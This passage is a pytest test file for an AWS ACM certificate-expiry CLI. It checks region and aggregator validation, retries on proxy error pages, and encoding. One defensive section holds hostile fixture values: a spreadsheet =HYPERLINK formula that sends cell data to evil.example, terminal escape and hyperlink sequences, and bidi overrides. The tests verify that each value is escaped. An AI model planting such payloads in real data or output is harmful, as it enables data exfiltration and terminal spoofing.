    assert "unknown region 'eu-wset-1': botocore knows no Config endpoint there (did you mean eu-west-1?)" in (
        capsys.readouterr().err
    )
    assert doubled.doubles.calls("config.SelectAggregateResourceConfig") == []


def test_an_organization_scan_finding_nothing_warns(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
    seed_aggregator(doubled, per_place=1)
    assert run_main(doubled, ["scan", "--aggregator", "org", "--region", "ap-southeast-2", "--format", "json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["rows"] == []
    assert err == (
        "acm-expiry scan: warning: Config aggregator org (regions ap-southeast-2) in us-east-1 holds no ACM "
        "certificate: check that the accounts' configuration recorders record AWS::ACM::Certificate, that the "
        "aggregator covers those accounts and regions, and any --account or --region\n"
    )
    run_main(doubled, ["scan", "--aggregator", "org", "--format", "json"])
    assert capsys.readouterr().err == ""  # certificates found: nothing to warn of


def test_an_empty_exempt_tag_means_no_exemptions_as_for_the_rule(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    inventory = synthetic_inventory(20, doubled.now)
    inventory[0]["Tags"] = [{"Key": "acm-expiry-exempt", "Value": "lab"}]
    doubled.acm.source = lambda region: inventory
    run_main(doubled, ["scan", "--format", "json", "--exempt-tag", ""])
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert len(rows) == 20 and not any(row["annotation"].startswith("Exempt") for row in rows)
    assert doubled.doubles.calls("resourcegroupstaggingapi.GetResources") == []
    assert run_main(doubled, ["scan", "--exempt-tag", "aws:reserved"]) == 1
    assert "(empty or absent: no exemptions)" in capsys.readouterr().err  # what it says is what it does


# --- hostile values: nothing from AWS acts on a terminal, a spreadsheet or a page ------------------

HOSTILE_DOMAIN = '=HYPERLINK("http://evil.example/?"&A1,"x")\x1b]8;;http://evil.example/\x1b\\ok\r\x00\u202e.com'
HOSTILE_TAG = "\x1b[2J\x1b[31mlab\u202eX"


def raw_controls(text: str) -> list[str]:
    """Characters a terminal or viewer would act on, but line ends."""
    return [hex(ord(c)) for c in text.replace("\r\n", "\n") if not (c.isprintable() or c in " \n")]


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("output_format", ["table", "csv", "json", "html"])
def test_hostile_values_from_an_organization_reach_no_output_raw(
    doubled: World, capsys: pytest.CaptureFixture[str], output_format: str
) -> None:
    records = seed_aggregator(doubled, per_place=1)
    records[0]["configuration"]["domainName"] = HOSTILE_DOMAIN
    records[1]["tags"].append({"key": "acm-expiry-exempt", "value": HOSTILE_TAG})
    records[2]["awsRegion"] = "eu-west-1\x1b[8m"  # a foreign row: named on stderr, escaped, and skipped
    argv = ["scan", "--aggregator", "org", "--exempt-tag", "acm-expiry-exempt", "--format", output_format]
    run_main(doubled, argv)
    out, err = capsys.readouterr()
    assert raw_controls(out) == [] and raw_controls(err) == []
    assert "awsRegion 'eu-west-1\\x1b[8m' is not the certificate's (us-east-1)" in err
    if output_format == "json":  # exact values, escaped by JSON itself
        rows = json.loads(out)["rows"]
        assert HOSTILE_DOMAIN in [row["domain"] for row in rows]
        assert f"Exempt by tag acm-expiry-exempt: {HOSTILE_TAG}" in [row["annotation"] for row in rows]
    elif output_format == "table":  # wrapped in its column: the escapes are there, the words around them wrapped
        assert "\\x00\\u202e.com" in out
    else:
        assert "\\x1b]8;;http://evil." in out and "\\x0d\\x00\\u202e." in out
        assert "\\x1b[2J\\x1b[31mlab\\u202eX" in out
    if output_format == "csv":
        import csv

        cells = [cell for record in csv.reader(io.StringIO(out, newline="")) for cell in record]
        runs = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").isdigit())]
        assert "'=HYPERLINK" in out and runs == []


def test_hostile_domains_in_a_direct_scan_and_on_stderr(doubled: World) -> None:
    inventory = synthetic_inventory(5, doubled.now)
    inventory[0]["DomainName"] = HOSTILE_DOMAIN
    doubled.acm.source = lambda region: inventory
    out, err = io.StringIO(), Terminal()  # stderr a terminal: progress lines too
    options = scan_module.ScanOptions(regions=(US,))
    scan_module.run_scan(options, out, err, lambda: doubled.now, doubled.doubles.session)
    assert raw_controls(out.getvalue()) == [] and "\\u202e" in out.getvalue()
    assert "scanning 1 region(s): us-east-1" in err.getvalue()
    # An error message quoting what came from AWS, or from the user, reaches stderr escaped too.
    err = Terminal()
    options = scan_module.ScanOptions(aggregator="org\x1b]8;;http://evil.example/\x07")
    assert scan_module.run_scan(options, io.StringIO(), err, lambda: doubled.now, doubled.doubles.session) == 1
    lines = err.getvalue().splitlines()
    assert raw_controls(err.getvalue()) == [] and len(lines) == 1  # refused before any call
    assert lines[0].startswith("acm-expiry scan: error: --aggregator 'org\\x1b]8;;http://evil.example/\\x07' is not")
    assert not doubled.doubles.calls("config.SelectAggregateResourceConfig")


# --- mistyped input, answers that are not AWS's, retries, encodings (issues 26 and 27) -------------------


@pytest.mark.parametrize(
    ("region", "said"),
    [
        ("US-EAST-1", "unknown region 'US-EAST-1': botocore knows no ACM endpoint there (did you mean us-east-1?)"),
        (" us-east-1", "unknown region ' us-east-1': botocore knows no ACM endpoint there (did you mean us-east-1?)"),
        ("", "--region is empty: give a region name, such as us-east-1"),
        ("   ", "--region is empty: give a region name, such as us-east-1"),
    ],
)
@pytest.mark.parametrize("where", [[], ["--aggregator", "org"]])
def test_a_mistyped_or_empty_region_says_what_was_meant(
    doubled: World, capsys: pytest.CaptureFixture[str], region: str, said: str, where: list[str]
) -> None:
    assert run_main(doubled, ["scan", "--region", region, *where]) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.startswith(f"acm-expiry scan: error: {said}") and err.count("\n") == 1
    assert doubled.doubles.requests == []  # refused before any call


@pytest.mark.parametrize("name", ["org agg", "org/agg", "", "é", "a" * 257])
def test_an_aggregator_name_aws_would_refuse_is_refused_first(
    doubled: World, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    assert run_main(doubled, ["scan", "--aggregator", name]) == 1
    assert "is not an aggregator name: 1 to 256 letters (A-Z, a-z), digits, _ and -" in capsys.readouterr().err
    assert doubled.doubles.requests == []
    seed_aggregator(doubled, per_place=1)
    assert run_main(doubled, ["scan", "--aggregator", "org", "--format", "json"]) in (0, 2)  # the longest allowed
    assert run_main(doubled, ["scan", "--aggregator", "a" * 256, "--format", "json"]) == 1
    assert "no Config aggregator" in capsys.readouterr().err


def test_an_aggregator_query_longer_than_aws_takes_is_refused_first(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    from acm_expiry_cli.aggregator import EXPRESSION_LIMIT, AggregatorQueryError, query

    def accounts(count: int) -> list[str]:
        return [f"{n:012d}" for n in range(count)]

    def fits(count: int) -> bool:
        try:
            return len(query(accounts(count))) <= EXPRESSION_LIMIT
        except AggregatorQueryError:
            return False

    most = max(n for n in range(1, 400) if fits(n))
    assert 200 < most < 300 and len(query(accounts(most))) > EXPRESSION_LIMIT - 16  # 16 characters an account
    too_long = len(query(accounts(most))) + 16
    assert run_main(doubled, ["scan", "--aggregator", "org", *(f"--account={a}" for a in accounts(most + 1))]) == 1
    said = f"make a query of {too_long:,} characters, and an aggregator query takes at most 4,096"
    assert said in capsys.readouterr().err
    assert doubled.doubles.requests == []


PROXY_PAGE = (
    "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n<body><h1>502 Bad Gateway</h1>\n"
    + "<p>The upstream server did not answer.</p>\n" * 2000
    + "</body></html>\n"
)


def test_a_proxys_error_page_is_one_readable_line_with_a_note_before_each_retry(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.support.doubles import NotAws

    doubled.doubles.faults.always("config.SelectAggregateResourceConfig", NotAws(502, PROXY_PAGE))
    assert run_main(doubled, ["scan", "--aggregator", "org"]) == 1
    out, err = capsys.readouterr()
    *notes, error = err.splitlines()
    assert out == "" and "<" not in err and len(err) < 2000
    assert error == (
        "acm-expiry scan: error: us-east-1: SelectAggregateResourceConfig failed: HTTP 502: an HTML page "
        "('502 Bad Gateway') instead of an AWS answer: is a proxy or AWS_ENDPOINT_URL in the way?"
    )
    # Every retry's wait, announced before it: six, the seventh attempt's failure being the error.
    waits = [float(re.fullmatch(rf"acm-expiry scan: us-east-1: SelectAggregateResourceConfig answered HTTP 502 with "
                                rf"an HTML page \(attempt {n} of 7\): retrying in (\d+\.\d) s", note)[1])  # type: ignore[index]
             for n, note in enumerate(notes, start=1)]  # fmt: skip
    assert len(waits) == 6 == len(doubled.doubles.calls("config.SelectAggregateResourceConfig")) - 1
    assert waits == [round(wait, 1) for wait in doubled.clock.sleeps if wait > 0][-6:]


def test_throttling_notes_say_which_error_and_stay_quiet_when_nothing_fails(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    doubled.acm.source = lambda region: synthetic_inventory(5, doubled.now)
    doubled.doubles.faults.add("acm.ListCertificates", THROTTLING)
    run_main(doubled, ["scan", "--region", US, "--format", "json"])
    err = capsys.readouterr().err
    assert re.fullmatch(
        r"acm-expiry scan: us-east-1: ListCertificates answered ThrottlingException \(HTTP 400\) "
        r"\(attempt 1 of 7\): retrying in \d+\.\d s\n",
        err,
    ), err
    run_main(doubled, ["scan", "--region", US, "--format", "json"])
    assert capsys.readouterr().err == ""  # pacing waits are not retries


@pytest.mark.parametrize("operation", ["acm.ListCertificates", "config.SelectAggregateResourceConfig"])
def test_a_web_page_answered_with_http_200_is_an_error_not_an_empty_account(
    doubled: World, capsys: pytest.CaptureFixture[str], operation: str
) -> None:
    from tests.support.doubles import NotAws

    doubled.doubles.faults.always(operation, NotAws(200, PROXY_PAGE))
    where = ["--aggregator", "org"] if operation.startswith("config") else ["--region", US]
    assert run_main(doubled, ["scan", *where]) == 1
    out, err = capsys.readouterr()
    name = operation.split(".")[1]
    assert out == "" and err == (
        f"acm-expiry scan: error: us-east-1: {name} answered HTTP 200 with an HTML page ('502 Bad Gateway') "
        "instead of an AWS answer: is a proxy or AWS_ENDPOINT_URL in the way?\n"
    )


def test_an_empty_scan_names_the_account_as_well_as_the_region(
    doubled: World, capsys: pytest.CaptureFixture[str]
) -> None:
    doubled.acm.source = lambda region: []
    run_main(doubled, ["scan", "--region", US, "--format", "json"])
    assert json.loads(capsys.readouterr().out)["source"] == f"ACM in account 123456789012: {US}"
    run_main(doubled, ["scan", "--region", US, "--format", "html"])
    heading = re.search(r"<h1>(.*?)</h1>", capsys.readouterr().out)
    assert heading and re.sub(r"<[^>]+>", "", heading[1]) == "ACM certificate expiry: account 123456789012 in us-east-1"


NON_ASCII = "bücher.例え.example"


@pytest.mark.parametrize("output_format", ["table", "csv", "json", "html"])
def test_an_ascii_only_stdout_gets_escapes_never_an_error(doubled: World, output_format: str) -> None:
    inventory = synthetic_inventory(3, doubled.now)
    inventory[0]["DomainName"] = NON_ASCII
    inventory[1]["DomainName"] = "\uff1dcmd\u3164.example.com"
    doubled.acm.source = lambda region: inventory
    raw = io.BytesIO()
    out = io.TextIOWrapper(raw, encoding="ascii", newline="")
    options = scan_module.ScanOptions(regions=(US,), output_format=output_format)
    scan_module.run_scan(options, out, io.StringIO(), lambda: doubled.now, doubled.doubles.session)
    out.flush()
    text = raw.getvalue().decode("ascii")
    if output_format == "html":
        assert "b&#252;cher.&#20363;&#12360;" in text.replace("<wbr>", "")
    elif output_format == "json":
        assert NON_ASCII in [row["domain"] for row in json.loads(text)["rows"]]
    else:
        assert "b\\xfccher.\\u4f8b\\u3048.example" in text.replace("\n", "").replace(" ", "")
        assert "\\uff1dcmd\\u3164.example.com" in text.replace("\n", "").replace(" ", "")
    if output_format == "table":
        assert max(len(line) for line in text.splitlines()) <= 120  # escaped before the layout: columns line up


def test_an_ascii_only_terminal_gets_no_traceback(seeded: Seeded) -> None:
    for env in (
        {"PYTHONIOENCODING": "ascii"},
        {"LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
    ):
        result = run_cli(seeded, "--region", "é-1", **env)
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        # an ASCII stream shows é as \xe9; the C locale hands it over undecoded (\udcc3\udca9): escaped either way
        assert re.match(r"acm-expiry scan: error: unknown region '(\\xe9|\\udcc3\\udca9)-1'", result.stderr)
